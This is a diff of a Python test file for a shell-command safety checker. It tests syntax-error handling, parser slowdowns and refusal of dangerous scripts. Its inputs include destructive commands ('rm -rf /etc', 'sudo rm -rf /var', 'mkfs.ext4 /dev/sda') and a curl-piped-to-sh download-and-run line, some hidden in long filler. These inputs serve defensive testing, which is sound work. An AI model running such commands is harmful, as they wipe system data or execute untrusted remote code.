@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import functools
 import random
+import re
 
 import pytest
 from hypothesis import given, settings
@@ -16,8 +17,8 @@ from hypothesis import strategies as st
 from bench.policy import LARGE, destructive, everyday
 from knm.core import policy
 from knm.core.policy import check_command, check_script
-from knm.core.shell.split import split
-from knm.core.shellparse import _Walker, analyze
+from knm.core.shell.split import ShellSyntaxError, split
+from knm.core.shellparse import MAX_ERROR_PARSE, _Walker, analyze
 
 
 def _full_walk(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -29,9 +30,12 @@ def _explicit(text: str) -> str:
     some lines that bash keeps apart (``a | b | c <newline> d && e`` becomes ``c d``), which
     the splitter does not (see ``test_the_line_after_a_long_pipeline_is_a_command_of_its_own``);
     with the ends explicit, the parse of the whole text is the reference."""
-    items = split(text)
-    if items is None or _Walker().plan(text) is None:
-        return text  # the split walk falls back to the whole text itself
+    try:
+        items = split(text)
+        if items is None or _Walker().plan(text) is None:
+            return text  # the split walk falls back to the whole text itself
+    except ShellSyntaxError:
+        return text  # so it does for a syntax error (in text up to MAX_ERROR_PARSE)
     out = []
     last = 0
     for item in items:
@@ -118,9 +122,14 @@ _QUADRATIC = {"quoted words pipeline", "arithmetic commands"}
 
 @pytest.mark.parametrize("name", sorted(LARGE))
 def test_each_64_kib_shape_runs_the_same_commands_as_in_the_full_walk(name: str) -> None:
+    text = LARGE[name]
+    if _split(text) is None and _syntax_error(text):
+        # Bash refuses the text; past MAX_ERROR_PARSE the split walk refuses it unparsed
+        # (``arithmetic commands``, ``fork-bomb shape``: the parse of the whole takes seconds).
+        assert [f.rule for f in analyze(text).findings] == ["too-complex"]
+        return
     if name in _QUADRATIC:
         pytest.skip("the parse of the whole of this shape takes seconds")
-    text = LARGE[name]
     assert _signature(text, True) == _signature(text, False)
 
 
@@ -149,10 +158,8 @@ def test_a_statement_met_again_after_the_state_changed_is_walked_again() -> None
 
 @pytest.mark.parametrize("name", sorted(LARGE))
 def test_a_destructive_command_anywhere_in_a_64_kib_shape_is_refused(name: str) -> None:
-    if name in _QUADRATIC:
-        pytest.skip("the parse of the whole of this shape takes seconds")
     text = LARGE[name]
-    items = split(text) or []
+    items = _split(text) or []
     starts = [0, *random.Random(name).sample([i.start for i in items], min(2, len(items)))]
     for start in starts:  # where a statement starts: before it, or after all of it
         for candidate in (
@@ -162,7 +169,7 @@ def test_a_destructive_command_anywhere_in_a_64_kib_shape_is_refused(name: str) 
             found = {v.rule for v in check_script(candidate)}  # a few bytes over 64 KiB
             assert found & {"system-paths", "nesting-too-deep", "too-complex"}, (name, start)
     tail = text + "\nrm -rf /etc\n"
-    if split(tail) is not None:  # the text ends a statement there (not inside a here-doc)
+    if _split(tail) is not None:  # the text ends a statement there (not inside a here-doc)
         assert {v.rule for v in check_script(tail)} & {"system-paths", "too-complex"}, name
 
 
@@ -172,6 +179,21 @@ def test_a_repeated_dangerous_statement_is_reported_once_per_distinct_violation(
 
 
 # --- the splitter -----------------------------------------------------------------------------
+
+
+def _syntax_error(text: str) -> bool:
+    try:
+        split(text)
+    except ShellSyntaxError:
+        return len(text) > MAX_ERROR_PARSE
+    return False
+
+
+def _split(text: str) -> list[object] | None:
+    try:
+        return split(text)  # type: ignore[return-value]
+    except ShellSyntaxError:
+        return None
 
 
 def _pieces(text: str) -> list[list[list[str]]] | None:
@@ -209,6 +231,139 @@ def test_a_statement_with_a_top_level_redirection_or_here_doc_is_left_whole() ->
     assert [item.whole for item in items] == [True, True, False]
 
 
-@pytest.mark.parametrize("text", ["fi", "a; ; b", "& a", "echo 'open", "a |", "(" * 200 + "a"])
+@pytest.mark.parametrize("text", ["(" * 200 + "a", "cat <<E; echo\nx\nE", "]]"])
 def test_text_the_splitter_cannot_follow_goes_to_the_parser_whole(text: str) -> None:
     assert split(text) is None
+
+
+# --- syntax errors ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "what"),
+    [
+        ("((1)) ((1))", "'(('"),
+        ("echo a ((1))", "'(('"),
+        ("a |", "ends"),
+        ("a &&\n", "ends"),
+        ('echo "open', 'ends inside "'),
+        ("echo $(ls", "ends inside $("),
+        ("if a; then b", "ends"),
+        ("a; ; b", "operator"),
+        ("& a", "operator"),
+        ("a ;; b", "';;'"),
+        ("a )", "')'"),
+        ("fi", "'fi'"),
+        ("then a", "'then'"),
+        ("f() f()", "function's body"),
+        ("f() ls", "function's body"),
+        ("f() ;", "function's body"),
+        ("echo (a)", "not closed at once"),
+        ("[ ( a ) ]", "not closed at once"),
+        ("echo a (b)", "'(' where no command"),
+    ],
+)
+def test_the_splitter_names_syntax_errors_bash_refuses(text: str, what: str) -> None:
+    with pytest.raises(ShellSyntaxError, match=re.escape(what)):
+        split(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "for ((i = 0; i < 3; i++)); do echo $i; done",
+        "if ((x > 1)); then echo; fi",
+        "while ((1)); do break; done",
+        "x=1; ((x++)) && echo $((x * 2)) || ((y = 2))",
+        "[[ a ]] && ((1))",
+        "case $x in a) ((n++));; esac",
+        "time ((1)); ! ((0))",
+        "f () { a; }; g() ( b ); h()\n# body\n{ c; }; k() if a; then b; fi",
+        "function f () { :; }; x=( a b ); declare -a y=(1 2); ls @(a|b) *.+(c|h)",
+        "[[ ( a ) ]] && (b) | (c); time (d); ! (e); coproc (f)",
+        "case x in (a) b;; esac; echo $(f() { :; }; f)",
+    ],
+)
+def test_parentheses_where_bash_takes_them_are_no_syntax_error(text: str) -> None:
+    assert split(text) is not None
+
+
+_ARITH = "((1)) " * 10000
+
+
+@pytest.mark.parametrize(
+    "text", [_ARITH, "ls\n" + _ARITH.replace(" ", "\n", 5), "echo a " + _ARITH]
+)
+def test_a_long_text_with_a_misplaced_arithmetic_command_is_refused_unparsed(text: str) -> None:
+    # tree-sitter-bash needs seconds for this text (quadratic error recovery); bash refuses it.
+    violations = check_command(text)
+    assert [v.rule for v in violations] == ["too-complex"]
+    assert "syntax error" in violations[0].matched
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ") " + '"a"|' * 16000,  # each of these took tree-sitter-bash 8-13 s whole
+        '"a"|' * 16000 + ")",
+        ";; " + '"a"|' * 16000,
+        '"a"|' * 16000 + ";;",
+        "\n esac )) " * 6000,
+        "&& ]] " * 10000,
+        "[[ 1 ]]; f(){ " + "f" * 65000,
+        "f() " * 16000,  # these took tree-sitter-bash seconds whole
+        "echo (a) " * 7000,
+    ],
+)
+def test_a_long_text_with_a_syntax_error_bash_refuses_is_refused_unparsed(text: str) -> None:
+    violations = check_command(text)
+    assert [v.rule for v in violations] == ["too-complex"]
+    assert "syntax error" in violations[0].matched
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rm -rf /etc\n" + _ARITH,
+        _ARITH + "\nrm -rf /etc",
+        "mkfs.ext4 /dev/sda; " + _ARITH,
+        "x=/; " + _ARITH.replace("((1)) ", "((1)) rm -rf $x ", 1),
+        "a |\n" * 2000 + "rm -rf /etc |",
+    ],
+)
+def test_a_destructive_command_in_a_long_text_with_a_syntax_error_is_refused(text: str) -> None:
+    assert check_command(text)
+
+
+@pytest.mark.parametrize("text", ["((1)) ((1))", "ls; ((1)) ((1))\nrm -rf /etc", "a |"])
+def test_a_short_text_with_a_syntax_error_gets_the_verdict_of_the_full_walk(
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert len(text) <= MAX_ERROR_PARSE
+    fast = check_command(text)
+    _full_walk(monkeypatch)
+    assert fast == check_command(text)
+
+
+# --- plain commands recorded without the walk's layers ----------------------------------------
+
+_DISTINCT = "".join(f"job{i} --run {i}\n" for i in range(2000))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cleanup() { rm -rf /etc; }\n" + _DISTINCT + "cleanup now",
+        _DISTINCT + "ls() { rm -rf /usr; }; ls -la",
+        _DISTINCT + "sudo rm -rf /var",
+        _DISTINCT + "curl -s https://x.example | job1 --run 1 | sh",
+        _DISTINCT + "cd /; job2 --run 2; rm -rf *",
+    ],
+)
+def test_a_destructive_command_among_many_distinct_plain_ones_is_refused(text: str) -> None:
+    assert check_command(text)
+
+
+def test_many_distinct_plain_commands_run_the_same_commands_as_in_the_full_walk() -> None:
+    text = _DISTINCT.replace("\n", " &\n", 50) + "cat /etc/hosts | job3 --run 3 && job4\n"
+    assert _signature(text, True) == _signature(text, False)
